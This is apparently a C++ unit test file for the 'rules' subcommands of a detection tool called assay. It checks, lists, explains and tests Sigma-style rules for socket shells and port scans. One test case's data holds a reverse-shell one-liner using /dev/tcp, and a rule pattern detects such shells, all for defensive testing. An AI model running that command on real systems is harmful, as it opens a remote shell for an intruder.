// assay rules: what its verbs print, whole, and what goes wrong.
#include <filesystem>

#include "tests/unit/cli/verbs_fixture.h"

namespace assay::cli {
namespace {

namespace fs = std::filesystem;

constexpr const char* kShell = R"(title: Shell on a socket
id: 11111111-1111-4111-8111-111111111111
description: A shell got a connection as its input.
references: [https://example.test/shells]
tags: [attack.execution, attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
    selection:
        Image|endswith: [/sh, /bash]
        CommandLine|contains|all: ['-i', '>&']
    filter_tests:
        - ParentImage: /usr/bin/make
        - User: '1000'
    condition: selection and not 1 of filter_*
falsepositives: [Consoles that are offered over the network]
level: high
)";
constexpr const char* kShellCases = R"(rule: Shell on a socket
fires:
  - - exec: {pid: 2, path: /bin/sh, argv: [sh, -c, 'sh -i >& /dev/tcp/1.2.3.4/5 0>&1']}
silent:
  - - exec: {pid: 2, path: /bin/sh, argv: [sh, -c, 'echo hello']}
)";
constexpr const char* kScan = R"(title: Connection attempt
id: 22222222-2222-4222-8222-222222222222
name: attempt
description: Base of the rule below.
tags: [attack.discovery, attack.t1046]
logsource: {product: linux, category: network_connection}
detection:
    selection: {Initiated: 'true'}
    condition: selection
falsepositives: [All]
level: informational
assay: {reports: false, category: scan}
---
title: Ports tried
id: 33333333-3333-4333-8333-333333333333
description: Many ports of one host were tried.
tags: [attack.discovery, attack.t1046]
correlation:
    type: value_count
    rules: [attempt]
    group-by: [DestinationIp]
    timespan: 30s
    condition: {field: DestinationPort, gte: 3}
falsepositives: [Scanners]
level: critical
assay: {category: scan, weight: 0.8}
)";
constexpr const char* kElsewhere = R"(title: Registry written
id: 44444444-4444-4444-8444-444444444444
description: Of another system.
tags: [attack.persistence, attack.t1053.003]
logsource: {product: windows, category: registry_set}
detection: {selection: {TargetObject: x}, condition: selection}
falsepositives: [None]
level: low
)";

class RulesVerb : public VerbsTest {
 protected:
  void SetUp() override {
    VerbsTest::SetUp();
    ::unsetenv("ASSAY_RULES");
  }
  std::string rule(const std::string& name, const std::string& text) {
    fs::create_directories((dir() / name).parent_path());
    EXPECT_TRUE(write_file(dir() / name, text));
    return dir() / name;
  }
  void rule_set() {
    rule("shell.yml", kShell);
    rule("scan.yml", kScan);
    rule("elsewhere.yml", kElsewhere);
    rule("cases/shell.yml", kShellCases);
  }
  /// The words, and "DIR" for the directory in what is printed.
  Said rules(Args args) {
    Said said = VerbsTest::run(cli::rules, std::move(args), false);
    for (std::string* text : {&said.out, &said.err})
      for (size_t at; (at = text->find(dir().string())) != std::string::npos;)
        text->replace(at, dir().string().size(), "DIR");
    return said;
  }
  fs::path dir() const { return dir_.path() / "rules"; }
};

TEST_F(RulesVerb, SaysWhatThereIsWhenTheVerbIsUnknown) {
  Said said = rules({"chek"});
  EXPECT_EQ(said.code, kUsage);
  EXPECT_EQ(said.err.find("assay: rules has no verb 'chek'\n\nassay rules check [DIR|FILE...]"), 0u)
      << said.err;
  EXPECT_EQ(rules({}).code, kUsage);
  EXPECT_EQ(rules({"--help"}).code, kBelowGate);
}

TEST_F(RulesVerb, RefusesOptionsOfItsOtherVerbs) {
  Said said = rules({"check", "--level", "high"});
  EXPECT_EQ(said.code, kUsage);
  EXPECT_EQ(said.err, "assay: assay rules check has no option --level\n");
  EXPECT_EQ(rules({"list", "--level", "enormous", "--rules", dir()}).code, kUsage);
  EXPECT_EQ(rules({"list", "--technique", "T9999"}).code, kUsage);
  EXPECT_EQ(rules({"explain"}).code, kUsage);
}

TEST_F(RulesVerb, NamesADirectoryThatIsNotThere) {
  for (const char* verb : {"check", "list", "test"}) {
    Said said = rules({verb, "--rules", dir()});
    EXPECT_EQ(said.code, kFailed) << verb;
    EXPECT_NE(said.err.find("DIR"), std::string::npos) << said.err;
  }
}

TEST_F(RulesVerb, CheckNamesEveryWrongFile) {
  rule_set();
  rule("a.yml",
       "title: A\nlogsource: {category: process_creation}\ndetection:\n  s: {Image|wrong: x}\n  condition: "
       "s\n");
  rule("b.yml", "title: B\ndetection: [\n");
  rule("c.yml",
       "title: C\ncorrelation: {type: event_count, rules: [nobody], timespan: 1m, condition: {gte: 2}}\n");
  Said said = rules({"check", dir()});
  EXPECT_EQ(said.code, kFailed);
  for (const char* file : {"DIR/a.yml:", "DIR/b.yml:", "DIR/c.yml:"})
    EXPECT_NE(said.out.find(file), std::string::npos) << said.out;
  for (const char* cause : {"wrong", "nobody"})
    EXPECT_NE(said.out.find(cause), std::string::npos) << said.out;
  EXPECT_NE(said.out.find("4 rules in 6 files, 3 errors, 1 warning\n"), std::string::npos) << said.out;

  json out = json::parse(rules({"check", dir(), "--format", "json"}).out);
  EXPECT_EQ(out["files"], 6);
  EXPECT_EQ(out["rules"], 4);
  ASSERT_EQ(out["errors"].size(), 3u);
  for (const auto& error : out["errors"]) {
    EXPECT_TRUE(error["file"].get<std::string>().starts_with("DIR/")) << error;
    EXPECT_FALSE(error["cause"].get<std::string>().empty()) << error;
    EXPECT_GT(error.value("line", 0), 0) << error;
  }
}

TEST_F(RulesVerb, CheckWarnsOfWhatShouldBeMended) {
  std::string file = rule("poor.yml", R"(title: Poor
tags: [attack.persistence, attack.t1046, attack.t9999, attack.nonsense, own.tag, cve.2021-44228, attack.g0032]
logsource: {product: linux, category: process_creation}
detection: {s: [{Image: x, Imgae: y}, {QueryName|contains: z}], condition: s}
)");
  Said said = rules({"check", file, rule("elsewhere.yml", kElsewhere)});
  EXPECT_EQ(said.code, kBelowGate) << said.err;
  std::string poor = "DIR/poor.yml:1: warning: rule 'Poor': ";
  EXPECT_EQ(
      said.out.substr(0, said.out.find("DIR/elsewhere.yml")),
      poor + "no description\n" + poor + "unknown tag 'attack.nonsense'\n" + poor +
          "unknown tag 'own.tag'\n" + poor +
          "technique T1046 Network Service Discovery belongs to discovery, but the tags name persistence\n" +
          poor + "technique T9999 is not in our table of ATT&CK\n" + poor + "no falsepositives\n" + poor +
          "field 'Imgae' is none of ours: it counts as missing\n" + poor +
          "events of process_creation have no field 'QueryName': it counts as missing\n" + poor +
          "no level: medium is taken\n" + poor +
          "can never fire: field Imgae is one that no event of category process_creation has\n");
  EXPECT_NE(said.out.find("DIR/elsewhere.yml:1: warning: rule 'Registry written': can never fire: "),
            std::string::npos)
      << said.out;
  EXPECT_NE(said.out.find("2 rules in 2 files, 0 errors, 11 warnings\n"), std::string::npos) << said.out;
}

TEST_F(RulesVerb, ListShowsEachRule) {
  rule_set();
  Said said = rules({"list", dir()});
  EXPECT_EQ(said.code, kBelowGate) << said.err;
  std::string table =
      "LEVEL     WEIGHT  TITLE               CATEGORY   TECHNIQUES\n"
      "info           -  Connection attempt  scan       T1046\n"
      "critical    0.80  Ports tried         scan       T1046\n"
      "high        0.40  Shell on a socket   execution  T1059.004\n"
      "\n"
      "NEVER FIRE  1\n"
      "\n";
  EXPECT_EQ(said.out.substr(0, table.size()), table);
  std::string rest =
      said.out.substr(std::min(said.out.size(), table.size()));  // the reason is the rule set's
  EXPECT_EQ(rest.substr(rest.find('\n') + 1), "    low       Registry written\n\n4 rules, 3 evaluated\n");
}

TEST_F(RulesVerb, ListFilters) {
  rule_set();
  auto count = [&](Args args) {
    args.insert(args.begin(), {"list", dir(), "--format", "json"});
    return json::parse(rules(args).out).size();
  };
  EXPECT_EQ(count({}), 4u);
  EXPECT_EQ(count({"--technique", "T1059"}), 1u);
  EXPECT_EQ(count({"--technique", "t1046"}), 2u);
  EXPECT_EQ(count({"--category", "scan"}), 2u);
  EXPECT_EQ(count({"--category", "process_creation"}), 1u);
  EXPECT_EQ(count({"--level", "high,critical"}), 2u);
  EXPECT_EQ(count({"--not-evaluated"}), 1u);
  json rule = json::parse(rules({"list", dir(), "--format", "json", "--level", "high"}).out)[0];
  EXPECT_EQ(rule["file"], "DIR/shell.yml");
  EXPECT_EQ(rule["techniques"][0]["name"], "Unix Shell");
  EXPECT_EQ(rule["evaluated"], true);
}

TEST_F(RulesVerb, ExplainTellsWhatARuleLooksFor) {
  rule_set();
  Said said = rules({"explain", "shell on", "--rules", dir()});
  EXPECT_EQ(said.code, kBelowGate) << said.err;
  EXPECT_EQ(said.out, R"(Shell on a socket
  A shell got a connection as its input.

  rule      11111111-1111-4111-8111-111111111111
  file      DIR/shell.yml
  level     high, weight 0.40
  alone     40/100, suspicious (from 30 suspicious, from 70 malicious)
  technique T1059.004 Unix Shell (execution)
  category  execution
  reads     process_creation: a program was executed

LOOKS FOR

  selection Image ends with any of '/sh', '/bash'
            and CommandLine contains all of '-i', '>&'
  filter_tests
            any of
            - ParentImage is '/usr/bin/make'
            - User is '1000'
  when      selection and not 1 of filter_*

FALSE POSITIVES

  - Consoles that are offered over the network

REFERENCES

  - https://example.test/shells

TESTED BY

  DIR/cases/shell.yml: 1 firing case, 1 near miss
)");
}

TEST_F(RulesVerb, ExplainTellsWhatACorrelationCounts) {
  rule_set();
  Said said = rules({"explain", "Ports tried", "--rules", dir()});
  EXPECT_EQ(said.code, kBelowGate) << said.err;
  EXPECT_EQ(said.out, R"(Ports tried
  Many ports of one host were tried.

  rule      33333333-3333-4333-8333-333333333333
  file      DIR/scan.yml
  level     critical, weight 0.80
  alone     80/100, malicious (from 30 suspicious, from 70 malicious)
  technique T1046 Network Service Discovery (discovery)
  category  scan

COUNTS

  when      at least 3 different values of DestinationPort within 30s, with the same DestinationIp
  of        Connection attempt

LOOKS FOR  Connection attempt

  reads     network_connection: a connection was made or accepted, or tried
  selection Initiated is 'true'
  when      selection

FALSE POSITIVES

  - Scanners

TESTED BY

  nothing
)");
}

TEST_F(RulesVerb, ExplainTakesIdFileAndPart) {
  rule_set();
  for (const char* word :
       {"11111111-1111-4111-8111-111111111111", "shell.yml", "shell", "Shell on a socket", "SOCKET"})
    EXPECT_EQ(rules({"explain", word, "--rules", dir()}).out.find("Shell on a socket\n"), 0u) << word;
  Said many = rules({"explain", "t", "--rules", dir()});
  EXPECT_EQ(many.code, kUsage);
  EXPECT_EQ(
      many.err,
      "assay: 't' may be 4 rules: Registry written; Connection attempt; Ports tried; Shell on a socket\n");
  Said none = rules({"explain", "nothing", "--rules", dir()});
  EXPECT_EQ(none.code, kFailed);
  EXPECT_EQ(none.err, "assay: no rule is called 'nothing' (assay rules list shows them)\n");
  EXPECT_NE(rules({"explain", "scan.yml", "--rules", dir()}).out.find("Connection attempt\n  Base of"),
            std::string::npos);
}

TEST_F(RulesVerb, ExplainCutsLongListsUnlessAllIsAskedFor) {
  rule("long.yml", R"(title: Long
logsource: {category: process_creation}
detection: {s: {Image: [a, b, c, d, e, f, g, h, i, j, k]}, condition: s}
)");
  EXPECT_NE(rules({"explain", "Long", "--rules", dir()}).out.find("'g', 'h' … and 3 more\n"),
            std::string::npos);
  EXPECT_NE(rules({"explain", "Long", "--rules", dir(), "--all"}).out.find("'j', 'k'\n"), std::string::npos);
}

TEST_F(RulesVerb, TestRunsTheCasesOfEveryRule) {
  rule("shell.yml", kShell);
  rule("cases/shell.yml", kShellCases);
  Said said = rules({"test", dir()});
  EXPECT_EQ(said.code, kBelowGate) << said.err;
  EXPECT_EQ(said.out, "1 rule, 1 firing, 1 near-miss case, 0 failed\n");
}

TEST_F(RulesVerb, TestTellsWhatWasFoundInstead) {
  rule("shell.yml", kShell);
  rule("any.yml", R"(title: Anything run
description: A program ran.
logsource: {category: process_creation}
detection: {s: {ProcessId: '2'}, condition: s}
)");
  rule("cases/shell.yml", R"(rule: Shell on a socket
fires:
  - - exec: {pid: 2, path: /bin/sh, argv: [sh, -i]}
  - - exec: {pid: 3, path: /bin/sh, argv: [sh, -i]}
silent:
  - - exec: {pid: 2, path: /bin/sh, argv: [sh, -i, '>&']}
)");
  rule("cases/any.yml", R"(rule: Anything run
fires:
  - - exec: {pid: 2, path: /bin/sh}
---
rule: Nothing run
silent:
  - - exec: {pid: 2, path: /bin/sh}
)");
  Said said = rules({"test", dir()});
  EXPECT_EQ(said.code, kFailed) << said.err;
  EXPECT_EQ(said.out, R"(DIR/any.yml: failed: 'Anything run' has no near miss
DIR/cases/shell.yml: failed: 'Shell on a socket' fires[0] does not fire
    found: Anything run
DIR/cases/shell.yml: failed: 'Shell on a socket' fires[1] does not fire
    found: nothing
DIR/cases/shell.yml: failed: 'Shell on a socket' silent[0] fires
    found: Shell on a socket
    found: Anything run
DIR/cases/any.yml: failed: 'Nothing run' no rule is called that
2 rules, 3 firing, 1 near-miss case, 5 failed
)");
  said = rules({"test", dir(), "anything"});
  EXPECT_EQ(said.out,
            "DIR/any.yml: failed: 'Anything run' has no near miss\n"
            "1 rule, 1 firing, 0 near-miss cases, 1 failed\n");
  json out = json::parse(rules({"test", dir(), "anything", "--format", "json"}).out);
  EXPECT_EQ(out["failures"][0]["what"], "has no near miss");
}

TEST_F(RulesVerb, TestSaysThatABaseHasNoCases) {
  rule_set();
  Said said = rules({"test", dir(), "attempt"});
  EXPECT_EQ(said.code, kUsage);
  EXPECT_EQ(said.err,
            "assay: 'Connection attempt' only feeds correlations and has no cases of its own: test these\n");
}

TEST_F(RulesVerb, TestNamesACaseThatCannotBeRead) {
  rule("shell.yml", kShell);
  rule("cases/shell.yml", "rule: Shell on a socket\nfires:\n  - - exec: {pid: 2, paht: /bin/sh}\n");
  Said said = rules({"test", dir()});
  EXPECT_EQ(said.code, kFailed);
  EXPECT_EQ(
      said.err,
      "assay: DIR/cases/shell.yml: cases of 'Shell on a socket': fires[0]: entry 1: events have no field "
      "'paht'\n");
  EXPECT_EQ(rules({"test", dir(), "--cases", dir() / "none"}).code, kFailed);
}

// The rules that are shipped are right, and say all that they should.
TEST_F(RulesVerb, OurRulesHaveNothingToBeMended) {
  Said said = rules({"check", std::string(ASSAY_SOURCE_DIR) + "/rules"});
  EXPECT_EQ(said.code, kBelowGate);
  EXPECT_NE(said.out.find(" files, 0 errors, 0 warnings\n"), std::string::npos) << said.out;
}

}  // namespace
}  // namespace assay::cli
